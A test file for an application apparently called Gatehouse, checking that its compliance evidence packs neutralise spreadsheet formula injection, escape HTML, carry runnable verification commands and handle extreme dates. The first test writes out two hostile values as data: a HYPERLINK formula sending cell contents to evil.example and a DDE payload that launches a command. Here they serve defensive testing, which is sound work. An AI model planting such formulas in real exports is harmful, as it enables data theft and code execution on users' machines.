import { copyFile, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { bearer, createTestApp, givenUser, TestApp, TestUser } from './support';
import { downloadPack } from './support/evidence-pack';
import { givenReviewWorld, givenUseCaseAt, ReviewWorld } from './support/review-world';
import { runCommand } from './support/run-command';

/** What a hostile but signed-in user can put into a pack, and whether an auditor can follow VERIFY.md as written. */
describe('the evidence pack, read by an auditor', () => {
  let t: TestApp;
  let world: ReviewWorld;
  let officer: TestUser;
  let work: string;

  beforeAll(async () => {
    t = await createTestApp();
    world = await givenReviewWorld(t);
    officer = await givenUser(t, { roles: ['compliance_officer'] });
    work = await mkdtemp(path.join(tmpdir(), 'gatehouse-pack-content-'));
  });
  afterAll(async () => {
    await rm(work, { recursive: true, force: true });
    await t.close();
  });

  const pack = (query: Record<string, string>, name: string) => downloadPack(t, officer.token, work, query, name);

  it('neutralises spreadsheet formulas in its CSV files, and escapes HTML in its report', async () => {
    const useCaseId = await givenUseCaseAt(t, world, 'minimal');
    const title = '=HYPERLINK("https://evil.example/?"&A1,"<b>click</b>")';
    await t.http().patch(`/api/use-cases/${useCaseId}`).set(bearer(world.opener.token)).send({ title }).then((r) => {
      if (r.status >= 300) throw new Error(`${r.status} ${JSON.stringify(r.body)}`);
    });
    const soa = (await t.http().get('/api/compliance/iso42001/soa').set(bearer(officer.token)).expect(200)).body;
    await t.http().patch('/api/compliance/iso42001/soa/controls/A.2.2').set(bearer(officer.token))
      .send({ basedOnVersion: soa.version, applicable: false, justification: '+cmd|" /C calc"!A0' }).expect(200);
    const downloaded = await pack({}, 'hostile');
    expect(downloaded.status).toBe(200);
    const inventory = await downloaded.text('inventory.csv');
    const soaCsv = await downloaded.text('soa.csv');
    for (const csv of [inventory, soaCsv, await downloaded.text('roles.csv')]) {
      // No cell, quoted or not, begins with a character a spreadsheet reads as the start of a formula.
      expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    }
    expect(inventory).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""<b>click</b>"")"`);
    expect(soaCsv).toContain(`'+cmd|`);
    const report = await downloaded.text('report.html');
    expect(report).not.toContain('<b>click</b>');
    expect(report).toContain('&lt;b&gt;click&lt;/b&gt;');
    // The JSON files keep the text as it was entered.
    expect(JSON.parse(await downloaded.text(`use-cases/${useCaseId}/dossier.json`)).useCase.title).toBe(title);
  });

  it('VERIFY.md, followed literally, verifies the manifest with openssl and the trail with the independent verifier', async () => {
    const downloaded = await pack({}, 'literal');
    const published = (await t.http().get('/api/audit/public-key').set(bearer(officer.token)).expect(200)).body;
    await writeFile(path.join(downloaded.dir, 'gatehouse-public-key.pem'), published.publicKey);
    const guide = await downloaded.text('audit-trail/VERIFY.md');
    // The auditor fetched Gatehouse's independent verifier from its source repository, as step 3 says.
    await copyFile(path.join(__dirname, 'support', 'verify_audit_export.py'), path.join(downloaded.dir, 'verify_audit_export.py'));
    const commands = guide.split('\n').filter((line) => /^ {7}(node|openssl|python3) /.test(line)).map((line) => line.trim());
    expect(commands).toHaveLength(3);
    for (const command of commands) {
      const run = await runCommand('sh', ['-c', `cd '${downloaded.dir}' && ${command}`]);
      expect({ command, output: run.output.trim(), code: run.code }).toEqual({ command, output: expect.stringMatching(/Signature Verified Successfully|^$|^intact up to seq \d+, head hash [0-9a-f]{64}$/), code: 0 });
    }
  });

  // (An expanded year such as +010000 is not strict ISO 8601: it is refused before any pack is made.)
  it.each([['1900-01-01T00:00:00Z'], ['9999-12-31T23:59:59Z']])('a period ending at %s still makes a pack any unzip tool opens', async (to) => {
    const downloaded = await pack({ to }, `to-${to.slice(0, 6)}`);
    expect({ status: downloaded.status, unzipped: downloaded.unzipped }).toEqual({ status: 200, unzipped: true });
    expect(JSON.parse(await downloaded.text('manifest.json')).period.to).toBe(new Date(to).toISOString());
  });
});
